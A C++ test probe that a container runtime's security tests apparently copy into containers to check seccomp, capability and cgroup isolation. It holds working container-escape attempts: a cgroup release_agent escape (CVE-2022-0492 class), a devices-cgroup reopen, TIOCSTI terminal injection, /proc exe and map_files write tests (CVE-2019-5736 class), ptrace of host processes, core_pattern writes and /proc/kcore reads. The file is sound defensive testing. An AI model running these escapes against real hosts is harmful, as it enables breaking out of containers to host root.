// security_probe: a static program the security tests copy into a container
// tree. Each mode makes system calls with arguments that are harmless if they
// reach the kernel (they fail there with an error other than EPERM, or do
// nothing), and prints one "name result" line per call, result being "ok" or
// the errno name. Modes: denied, allowed, tty, stdin-tty, compat, newer,
// mounts NSID MNTID, filter (only denied, newer, mounts and filter are also
// safe to run on the host: allowed sets the hostname, mounts, makes nodes);
// the attacks on the host through cgroups and devices: cgroup-escape,
// devices, devices-v1-reopen, forks; and the attacks on processes of ours
// that a container can see: watch (waits for a process entered from the
// host, holds it on a FIFO /etc/passwd and tries everything on it), inspect
// PID (the same on a running process).
#include <fcntl.h>
#include <linux/netlink.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <sys/stat.h>
#include <sys/sysmacros.h>

#include <dirent.h>
#include <sys/ptrace.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <algorithm>
#include <set>
#include <fstream>
#include <sstream>
#include <string>
#include <cstring>
#include <string_view>
#include <vector>

namespace {

void report(const char* name, long r) {
    if (r >= 0) std::printf("%s ok\n", name);
    else std::printf("%s %s\n", name, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    std::fflush(stdout);
}

int denied() {
    report("keyctl", syscall(SYS_keyctl, 0x7fffffff, 0, 0, 0, 0));                // EOPNOTSUPP if reached
    report("add_key", syscall(SYS_add_key, nullptr, nullptr, nullptr, 0, 0));      // EFAULT
    report("request_key", syscall(SYS_request_key, nullptr, nullptr, nullptr, 0)); // EFAULT
    report("bpf", syscall(SYS_bpf, 0x7fffffff, nullptr, 0));                       // EINVAL (CAP_SYS_ADMIN kept)
    report("perf_event_open", syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0)); // EFAULT
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, nullptr, 0xfff00000UL));  // EINVAL (CAP_SYS_BOOT kept)
    report("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, nullptr, 0xfff00000UL));
    report("swapon", syscall(SYS_swapon, nullptr, 0));                             // EFAULT
    report("swapoff", syscall(SYS_swapoff, nullptr));                              // EFAULT
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, nullptr, 0));   // EBADF
    report("settimeofday", syscall(SYS_settimeofday, nullptr, nullptr));           // ok (a no-op)
    report("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, nullptr));  // EFAULT
    report("syslog", syscall(SYS_syslog, 10 /* SIZE_BUFFER */, nullptr, 0));       // ok with CAP_SYS_ADMIN
    report("mlock", syscall(SYS_mlock, nullptr, 0));                               // ok (nothing)
    report("init_module", syscall(SYS_init_module, nullptr, 0, nullptr));
    report("acct", syscall(SYS_acct, nullptr));
    report("iopl", syscall(SYS_iopl, 4));                                           // EINVAL
    report("fanotify_init", syscall(SYS_fanotify_init, 0xffffffffU, 0));          // EINVAL
    report("lookup_dcookie", syscall(SYS_lookup_dcookie, 0, nullptr, 0));
    report("quotactl", syscall(SYS_quotactl, 0, nullptr, 0, nullptr));
    return 0;
}

int allowed() {
    report("reboot", syscall(SYS_reboot, 0, 0, 0, nullptr));  // EINVAL: bad magic, after the CAP_SYS_BOOT check
    report("unshare", syscall(SYS_unshare, CLONE_NEWNS));
    report("mount", ::mount("tmpfs", "/tmp", "tmpfs", 0, "size=64k"));
    report("umount", ::umount2("/tmp", 0));
    pid_t pid = fork();
    if (pid == 0) _exit(7);
    int st = 0;
    report("fork", pid < 0 ? -1 : (waitpid(pid, &st, 0) == pid && WEXITSTATUS(st) == 7 ? 0 : -1));
    report("sethostname", sethostname("probe", 5));
    report("mknod", mknod("/dev/probe-null", S_IFCHR | 0600, makedev(1, 3)));
    unlink("/dev/probe-null");
    int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT);
    report("audit_socket", s);
    int r = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    report("route_socket", r);
    return 0;
}

// TIOCSTI / TIOCLINUX on a pty of our own (not our controlling terminal: the
// kernel would allow it with CAP_SYS_ADMIN, which the container keeps).
int tty() {
    int m = posix_openpt(O_RDWR | O_NOCTTY);
    if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0) return report("openpt", -1), 1;
    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
    if (s < 0) return report("open_slave", -1), 1;
    char c = 'x';
    report("TIOCSTI", ioctl(s, TIOCSTI, &c));
    // The kernel reads the request as 32 bits: high bits must not slip past the filter.
    report("TIOCSTI_high", syscall(SYS_ioctl, s, static_cast<unsigned long>(TIOCSTI) | (1UL << 32), &c));
    char sub = 0;
    report("TIOCLINUX", ioctl(s, TIOCLINUX, &sub));
    report("TIOCGWINSZ", [&] { struct winsize ws; return ioctl(s, TIOCGWINSZ, &ws); }());
    int n = -1;
    ioctl(s, FIONREAD, &n);
    std::printf("queued %d\n", n);
    return 0;
}

// TIOCSTI into the terminal on stdin (the host's, in pipe mode).
int stdin_tty() {
    std::printf("isatty %d\n", isatty(0));
    const char* text = "INJECTED\n";
    long r = 0;
    for (const char* p = text; *p && r >= 0; ++p) r = ioctl(0, TIOCSTI, p);
    report("TIOCSTI_stdin", r);
    return 0;
}

// The same denied syscall through the i386 entry (int 0x80) and the x32
// numbering: a second ABI must not be a way around the filter.
int compat() {
#if defined(__x86_64__)
    long ret;
    // i386 keyctl = 288, invalid operation.
    asm volatile("int $0x80" : "=a"(ret) : "a"(288L), "b"(0x7fffffffL), "c"(0L), "d"(0L) : "memory");
    if (ret < 0) errno = static_cast<int>(-ret);
    report("i386_keyctl", ret < 0 ? -1 : ret);
    // x32 keyctl = 0x40000000 | 250.
    report("x32_keyctl", syscall(0x40000000L | SYS_keyctl, 0x7fffffff, 0, 0, 0, 0));
#else
    std::printf("i386_keyctl skipped\nx32_keyctl skipped\n");
#endif
    return 0;
}

std::string slurp(const std::string& path) {
    std::string out;
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return out;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
    close(fd);
    return out;
}

std::string status_line(const std::string& status, const char* field) {
    auto at = status.find(std::string(field) + ":");
    if (at == std::string::npos) return "?";
    auto start = status.find_first_not_of(" \t", at + strlen(field) + 1);
    return status.substr(start, status.find('\n', start) - start);
}

std::string link_of(const std::string& path) {
    char buf[4096];
    ssize_t n = readlink(path.c_str(), buf, sizeof buf - 1);
    return n < 0 ? std::string("?") + (strerrorname_np(errno) ? strerrorname_np(errno) : "") : std::string(buf, static_cast<size_t>(n));
}

// Everything container root can try on a process of the host that it can
// see: its identity and privileges, its image and mapped files (for
// writing: the runc CVE-2019-5736 class), its descriptors, ptrace.
void inspect(pid_t pid) {
    std::string base = "/proc/" + std::to_string(pid);
    std::string status = slurp(base + "/status");
    std::printf("capeff %s\ncapbnd %s\nseccomp %s\n", status_line(status, "CapEff").c_str(),
                status_line(status, "CapBnd").c_str(), status_line(status, "Seccomp").c_str());
    std::printf("exe %s\n", link_of(base + "/exe").c_str());
    report("exe_write", open((base + "/exe").c_str(), O_WRONLY | O_CLOEXEC));
    std::string fds;
    if (DIR* d = opendir((base + "/fd").c_str())) {
        std::set<int> seen;
        while (auto* e = readdir(d))
            if (e->d_name[0] != '.') seen.insert(std::atoi(e->d_name));
        closedir(d);
        for (int fd : seen) {
            fds += (fds.empty() ? "" : ",") + std::to_string(fd);
            std::printf("fd%d %s\n", fd, link_of(base + "/fd/" + std::to_string(fd)).c_str());
        }
    }
    std::printf("fds %s\n", fds.c_str());
    // Every mapped file: its name, and whether it opens for writing.
    if (DIR* d = opendir((base + "/map_files").c_str())) {
        std::set<std::string> targets, writable;
        while (auto* e = readdir(d)) {
            if (e->d_name[0] == '.') continue;
            std::string entry = base + "/map_files/" + e->d_name;
            std::string target = link_of(entry);
            targets.insert(target);
            int fd = open(entry.c_str(), O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                writable.insert(target);
                close(fd);
            }
        }
        closedir(d);
        for (const auto& t : targets) std::printf("mapped %s\n", t.c_str());
        for (const auto& t : writable) std::printf("mapped_writable %s\n", t.c_str());
    } else {
        report("map_files", -1);
    }
    long seized = ptrace(PTRACE_SEIZE, pid, nullptr, nullptr);
    report("ptrace_seize", seized);
    if (seized == 0) ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    std::fflush(stdout);
}

// Waits for a process entered from the host (mctl exec), holds it where it
// reads /etc/passwd (a FIFO here) and inspects it there, then lets it go.
int watch() {
    if (rename("/etc/passwd", "/etc/passwd.real") < 0 || mkfifo("/etc/passwd", 0644) < 0) return report("fifo", -1), 1;
    std::string passwd = slurp("/etc/passwd.real");
    std::printf("ready 1\n");
    std::fflush(stdout);
    // A reader on the FIFO lets a non-blocking writer in: that is the entered
    // process, inside the machine, in the middle of its set-up.
    int w;
    while ((w = open("/etc/passwd", O_WRONLY | O_NONBLOCK | O_CLOEXEC)) < 0) {
        struct timespec ts = {0, 2 * 1000 * 1000};
        nanosleep(&ts, nullptr);
    }
    pid_t self = getpid(), entered = -1;
    if (DIR* d = opendir("/proc")) {
        while (auto* e = readdir(d)) {
            pid_t pid = std::atoi(e->d_name);
            if (pid > 1 && pid != self && pid != getppid()) entered = std::max(entered, pid);
        }
        closedir(d);
    }
    std::printf("entered %d\n", entered);
    if (entered > 0) inspect(entered);
    fcntl(w, F_SETFL, 0);
    (void)!write(w, passwd.data(), passwd.size());
    close(w);
    std::printf("done 1\n");
    return 0;
}

// The release_agent escape (CVE-2022-0492 class), for every cgroup v1
// hierarchy in /proc/self/cgroup: mount it, look for release_agent at the
// root the mount shows, and if it is there, point it at agent (a host path)
// and trigger it by emptying a notify_on_release cgroup. Prints
// "cgroup_H PATH", "mount_H", "release_agent_H" (ok: present), "write_agent_H"
// and, when it got that far, "trigger_H".
int cgroup_escape(const char* agent, const char* tag) {
    std::ifstream in("/proc/self/cgroup");
    std::string line;
    int n = 0;
    while (std::getline(in, line)) {
        auto a = line.find(':'), b = line.find(':', a + 1);
        if (a == std::string::npos || b == std::string::npos) continue;
        std::string ctl = line.substr(a + 1, b - a - 1);
        std::printf("cgroup_%s %s\n", ctl.empty() ? "cgroup2" : ctl.c_str(), line.substr(b + 1).c_str());
        if (ctl.empty()) continue;
        std::string dir = "/tmp/cg-" + std::to_string(n++);
        mkdir(dir.c_str(), 0755);
        std::string opts = ctl.rfind("name=", 0) == 0 ? "none," + ctl : ctl;
        std::string name = "_" + ctl;
        long r = ::mount("cgroup", dir.c_str(), "cgroup", 0, opts.c_str());
        report(("mount" + name).c_str(), r);
        if (r < 0) continue;
        std::string ra = dir + "/release_agent";
        report(("release_agent" + name).c_str(), access(ra.c_str(), F_OK));
        int fd = open(ra.c_str(), O_WRONLY | O_CLOEXEC);
        long w = fd < 0 ? -1 : write(fd, agent, strlen(agent));
        report(("write_agent" + name).c_str(), w);
        if (fd >= 0) close(fd);
        if (w >= 0) {
            // The kernel would run agent as host root once this cgroup empties.
            std::string x = dir + "/" + tag;
            mkdir(x.c_str(), 0755);
            std::ofstream(x + "/notify_on_release") << "1";
            pid_t pid = fork();
            if (pid == 0) {
                std::ofstream(x + "/cgroup.procs") << getpid() << std::flush;
                _exit(0);
            }
            int st = 0;
            waitpid(pid, &st, 0);
            report(("trigger" + name).c_str(), 0);
        }
        umount2(dir.c_str(), MNT_DETACH);
    }
    return 0;
}

// One device: "node:NAME:TYPE:MAJOR:MINOR" is created with mknod at
// /dev/probe-NAME (the container's /tmp is nodev) and opened; "path:PATH" is
// opened. Prints mknod_NAME / open_NAME.
void try_device(const std::string& spec) {
    std::vector<std::string> f;
    std::istringstream in(spec);
    for (std::string part; std::getline(in, part, ':');) f.push_back(part);
    std::string path, name;
    bool block = false;
    if (f.size() == 5 && f[0] == "node") {
        name = f[1];
        path = "/dev/probe-" + name;
        block = f[2] == "b";
        unlink(path.c_str());
        long r = mknod(path.c_str(), (block ? S_IFBLK : S_IFCHR) | 0600,
                       makedev(std::stoul(f[3]), std::stoul(f[4])));
        report(("mknod_" + name).c_str(), r);
        if (r < 0) {
            std::printf("open_%s skipped\n", name.c_str());
            return;
        }
    } else if (f.size() == 2 && f[0] == "path") {
        path = f[1];
        name = path.substr(path.rfind('/') + 1);
        struct stat st {};
        block = stat(path.c_str(), &st) == 0 && S_ISBLK(st.st_mode);
    } else {
        std::printf("bad_spec %s\n", spec.c_str());
        return;
    }
    int fd = open(path.c_str(), (block ? O_RDONLY : O_RDWR) | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    report(("open_" + name).c_str(), fd);
    if (fd >= 0) close(fd);
}

int devices(int argc, char** argv) {
    for (int i = 2; i < argc; ++i) {
        if (std::string_view(argv[i]) == "pts") {
            int m = posix_openpt(O_RDWR | O_NOCTTY);
            report("open_ptmx", m);
            if (m < 0) continue;
            grantpt(m);
            unlockpt(m);
            int s = open(ptsname(m), O_RDWR | O_NOCTTY);
            report("open_pts", s);
            if (s >= 0) close(s);
            close(m);
            continue;
        }
        try_device(argv[i]);
    }
    return 0;
}

// Container root reopens its own v1 devices cgroup (it has CAP_SYS_ADMIN and
// sees that cgroup as the root of its mount): "a" to devices.allow, then
// mknod + open of tty1. Prints devices_allow_all, mknod_tty1, open_tty1.
int devices_v1_reopen() {
    mkdir("/tmp/cg-dev", 0755);
    long r = ::mount("cgroup", "/tmp/cg-dev", "cgroup", 0, "devices");
    report("mount_devices", r);
    if (r == 0) {
        int fd = open("/tmp/cg-dev/devices.allow", O_WRONLY | O_CLOEXEC);
        long w = fd < 0 ? -1 : write(fd, "a", 1);
        report("devices_allow_all", w);
        if (fd >= 0) close(fd);
        umount2("/tmp/cg-dev", MNT_DETACH);
    }
    try_device("node:tty1:c:4:1");
    return 0;
}

// Forks up to n children that wait for the parent's end; prints "forked K"
// and "fork_error" (the errno of the first failing fork, or "none").
int forks(int n) {
    int p[2];
    if (pipe(p) < 0) return 1;
    int made = 0;
    int err = 0;
    for (; made < n; ++made) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            close(p[1]);
            char c;
            (void)!read(p[0], &c, 1);  // until the parent closes its end
            _exit(0);
        }
    }
    close(p[1]);
    while (wait(nullptr) > 0) {
    }
    std::printf("forked %d\nfork_error %s\n", made, err ? strerrorname_np(err) : "none");
    return 0;
}

// What --system-call-filter moves, with arguments that do nothing wherever
// the calls reach (also on the host).
int filter() {
    report("settimeofday", syscall(SYS_settimeofday, nullptr, nullptr));           // ok (a no-op)
    report("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, nullptr));  // EFAULT
    report("keyctl", syscall(SYS_keyctl, 0x7fffffff, 0, 0, 0, 0));                 // EOPNOTSUPP
    report("mount", syscall(SYS_mount, nullptr, nullptr, nullptr, 0, nullptr));    // EFAULT
    report("umount2", syscall(SYS_umount2, nullptr, 0));                            // EFAULT
    report("sethostname", syscall(SYS_sethostname, nullptr, 100000));              // EINVAL (length)
    report("perf_event_open", syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0)); // EFAULT
    return 0;
}

// --suppress-sync: what the sync calls and O_SYNC opens answer. On a pipe
// fsync/fdatasync fail with EINVAL and sync_file_range with ESPIPE when they
// reach the kernel; suppressed they return 0.
int sync_calls() {
    int p[2];
    if (pipe(p) < 0) return 1;
    report("fsync", fsync(p[1]));
    report("fdatasync", fdatasync(p[1]));
    report("sync_file_range", static_cast<int>(syscall(SYS_sync_file_range, p[1], 0, 0, 0)));
    report("syncfs", syncfs(p[1]));
    int fd = open("/tmp/sync-probe", O_WRONLY | O_CREAT | O_SYNC | O_CLOEXEC, 0600);
    report("open_osync", fd);
    if (fd >= 0) close(fd);
    fd = openat(AT_FDCWD, "/tmp/sync-probe", O_WRONLY | O_CREAT | O_DSYNC | O_CLOEXEC, 0600);
    report("openat_odsync", fd);
    if (fd >= 0) close(fd);
    fd = openat(AT_FDCWD, "/tmp/sync-probe", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    report("openat_plain", fd);
    if (fd >= 0) close(fd);
    return 0;
}

// System calls newer than systemd 252's table, by raw number (x86_64; the C
// library of the build host may not know them). Arguments are invalid, so a
// call that reaches the kernel fails there (EBADF, EFAULT, EINVAL) or, for a
// kernel without it, with ENOSYS: the test compares with the host.
struct RawCall {
    const char* name;
    long nr;
    long a[6];
};
#if defined(__x86_64__)
constexpr RawCall kNewer[] = {
    {"cachestat", 451, {-1, 0, 0, 0}},
    {"fchmodat2", 452, {-1, 0, 0, -1}},
    {"map_shadow_stack", 453, {0, 0, -1}},
    {"futex_wake", 454, {0, 0, 0, -1}},
    {"futex_wait", 455, {0, 0, 0, -1, 0, 0}},
    {"futex_requeue", 456, {0, -1, 0, 0}},
    {"statmount", 457, {0, 0, 0, -1}},
    {"listmount", 458, {0, 0, 0, -1}},
    {"lsm_get_self_attr", 459, {0, 0, 0, -1}},
    {"lsm_set_self_attr", 460, {0, 0, 0, -1}},
    {"lsm_list_modules", 461, {0, 0, -1}},
    {"mseal", 462, {0, 0, -1}},
    {"setxattrat", 463, {-1, 0, -1, 0, 0, 0}},
    {"getxattrat", 464, {-1, 0, -1, 0, 0, 0}},
    {"listxattrat", 465, {-1, 0, -1, 0, 0}},
    {"removexattrat", 466, {-1, 0, -1, 0}},
    {"open_tree_attr", 467, {-1, 0, -1, 0, 0}},
    {"file_getattr", 468, {-1, 0, 0, 0, -1}},
    {"file_setattr", 469, {-1, 0, 0, 0, -1}},
};
#endif

int newer() {
#if defined(__x86_64__)
    for (const auto& c : kNewer) report(c.name, syscall(c.nr, c.a[0], c.a[1], c.a[2], c.a[3], c.a[4], c.a[5]));
    // In nspawn's list: reach the kernel.
    unsigned action = 0x7fff0000U;  // SECCOMP_RET_ALLOW
    report("seccomp", syscall(SYS_seccomp, 2 /* SECCOMP_GET_ACTION_AVAIL */, 0, &action));
    report("process_vm_readv", syscall(SYS_process_vm_readv, getpid(), nullptr, 0, nullptr, 0, 0));
#else
    std::printf("newer skipped\n");
#endif
    return 0;
}

// listmount(2)/statmount(2) against another mount namespace (the host's),
// given its ID and the unique ID of one of its mounts: what a container must
// not reach. Prints the results, the mounts listed and the mount point read,
// then a scan of namespace IDs 1..100000 ("listmount_scan N": namespaces found
// other than our own).
struct MntIdReq {
    uint32_t size;
    uint32_t spare;
    uint64_t mnt_id;
    uint64_t param;
    uint64_t mnt_ns_id;
};
constexpr uint64_t kListmountRoot = ~uint64_t{0};  // LSMT_ROOT
constexpr uint64_t kStatmountMntPoint = 0x10;      // STATMOUNT_MNT_POINT

int mounts(uint64_t ns_id, uint64_t mnt_id) {
#if defined(__x86_64__)
    uint64_t ids[512];
    MntIdReq req{sizeof(MntIdReq), 0, kListmountRoot, 0, ns_id};
    long n = syscall(458, &req, ids, 512, 0);
    report("listmount", n);
    if (n > 0) std::printf("listmount_count %ld\nlistmount_first %llu\n", n, static_cast<unsigned long long>(ids[0]));
    // The mount point of the given mount, then of every mount listed.
    auto stat_point = [&](uint64_t id) -> long {
        alignas(8) static char buf[8192];
        std::memset(buf, 0, sizeof buf);
        MntIdReq sreq{sizeof(MntIdReq), 0, id, kStatmountMntPoint, ns_id};
        long s = syscall(457, &sreq, buf, sizeof buf, 0);
        if (s < 0) return s;
        // struct statmount: the mnt_point string offset (u32) at byte 108, strings from byte 512.
        uint32_t off = 0;
        std::memcpy(&off, buf + 108, sizeof off);
        std::printf("statmount_point %s\n", off < sizeof buf - 512 ? buf + 512 + off : "?");
        return s;
    };
    report("statmount", stat_point(mnt_id));
    for (long i = 0; i < n; ++i) stat_point(ids[i]);
    // Our own namespace does not count (NS_GET_MNTNS_ID = _IOR(0xb7, 5, __u64)).
    uint64_t own = 0;
    int nsfd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (nsfd >= 0) {
        (void)ioctl(nsfd, _IOR(0xb7, 5, uint64_t), &own);
        close(nsfd);
    }
    long found = 0;
    for (uint64_t id = 1; id <= 100000; ++id) {
        if (id == own) continue;
        MntIdReq r{sizeof(MntIdReq), 0, kListmountRoot, 0, id};
        long k = syscall(458, &r, ids, 1, 0);
        if (k < 0 && errno == ENOSYS) break;
        if (k >= 0) ++found;
    }
    std::printf("listmount_scan %ld\n", found);
#else
    (void)ns_id;
    (void)mnt_id;
    std::printf("listmount skipped\n");
#endif
    std::fflush(stdout);
    return 0;
}

// Mounts a fresh fstype at /tmp/attack/NAME and opens FILE in it for
// writing (reports fresh_NAME_mount and, if mounted, fresh_NAME_write).
void fresh_mount_write(const char* fstype, const std::string& name, const std::string& file) {
    const std::string dir = "/tmp/attack/" + name;
    mkdir(dir.c_str(), 0755);
    long r = mount(fstype, dir.c_str(), fstype, 0, nullptr);
    report(("fresh_" + name + "_mount").c_str(), r);
    if (r != 0) return;
    int fd = open((dir + "/" + file).c_str(), O_WRONLY | O_CLOEXEC);
    report(("fresh_" + name + "_write").c_str(), fd);
    if (fd >= 0) close(fd);
    umount2(dir.c_str(), MNT_DETACH);
}

// What root of the host could do and root of a container must not, each
// tried for real (what succeeds is undone): a block device made and opened,
// a new cgroup v1 hierarchy (the CVE-2022-0492 path: its release_agent),
// a host file opened by its handle (argv: TYPE HEX from name_to_handle_at on
// the host), /proc/sys and /sys written (also through fresh procfs and sysfs
// mounts), a module loaded, the keyring, /proc/kcore unmasked and read.
int host_attacks(int argc, char** argv) {
    mkdir("/tmp/attack", 0755);
    long r = mknod("/tmp/attack/blk", S_IFBLK | 0600, makedev(7, 0));
    report("mknod_block", r);
    if (r == 0) {
        int fd = open("/tmp/attack/blk", O_RDONLY | O_CLOEXEC);
        report("open_block", fd);
        if (fd >= 0) close(fd);
        unlink("/tmp/attack/blk");
    }
    mkdir("/tmp/attack/cg", 0755);
    r = mount("cgroup", "/tmp/attack/cg", "cgroup", 0, "none,name=spawnprobe");
    report("new_v1_hierarchy", r);
    if (r == 0) {
        int fd = open("/tmp/attack/cg/release_agent", O_WRONLY | O_CLOEXEC);
        long w = fd >= 0 ? write(fd, "/nonexistent-probe", 18) : -1;
        report("release_agent_write", w);
        if (w >= 0) (void)!write(fd, "", 0);
        if (fd >= 0) close(fd);
        umount2("/tmp/attack/cg", MNT_DETACH);
    }
    if (argc >= 4) {
        std::string hex = argv[3];
        std::vector<unsigned char> bytes(sizeof(struct file_handle) + hex.size() / 2);
        auto* fh = reinterpret_cast<struct file_handle*>(bytes.data());
        fh->handle_type = std::atoi(argv[2]);
        fh->handle_bytes = static_cast<unsigned>(hex.size() / 2);
        for (size_t i = 0; i < hex.size() / 2; ++i)
            fh->f_handle[i] = static_cast<unsigned char>(std::stoi(hex.substr(2 * i, 2), nullptr, 16));
        int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int fd = open_by_handle_at(mount_fd, fh, O_RDONLY | O_CLOEXEC);
        report("open_by_handle", fd);
        if (fd >= 0) close(fd);
        close(mount_fd);
    }
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
    report("proc_sys_write", fd);
    if (fd >= 0) close(fd);
    fresh_mount_write("proc", "proc", "sys/kernel/core_pattern");
    fd = open("/sys/kernel/profiling", O_WRONLY | O_CLOEXEC);
    report("sys_write", fd);
    if (fd >= 0) close(fd);
    fresh_mount_write("sysfs", "sys", "kernel/profiling");
    report("finit_module", syscall(SYS_finit_module, -1, "", 0));  // EBADF if allowed
    report("keyctl_session", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0, 0, 0));
    report("kcore_unmask", umount2("/proc/kcore", MNT_DETACH));
    fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
    report("kcore_open", fd);
    if (fd >= 0) {
        char b[16];
        report("kcore_read", read(fd, b, sizeof b) > 0 ? 0 : -1);
        close(fd);
    }
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc < 2) return 2;
    if (argc == 3 && std::string_view(argv[1]) == "inspect") return inspect(std::atoi(argv[2])), 0;
    if (argc == 4 && std::string_view(argv[1]) == "mounts")
        return mounts(std::strtoull(argv[2], nullptr, 0), std::strtoull(argv[3], nullptr, 0));
    std::string_view mode = argv[1];
    if (mode == "cgroup-escape" && argc == 4) return cgroup_escape(argv[2], argv[3]);
    if (mode == "devices") return devices(argc, argv);
    if (mode == "devices-v1-reopen") return devices_v1_reopen();
    if (mode == "host-attacks") return host_attacks(argc, argv);
    if (mode == "forks" && argc == 3) return forks(std::atoi(argv[2]));
    if (argc != 2) return 2;
    if (mode == "denied") return denied();
    if (mode == "allowed") return allowed();
    if (mode == "tty") return tty();
    if (mode == "stdin-tty") return stdin_tty();
    if (mode == "compat") return compat();
    if (mode == "watch") return watch();
    if (mode == "newer") return newer();
    if (mode == "filter") return filter();
    if (mode == "sync") return sync_calls();
    return 2;
}
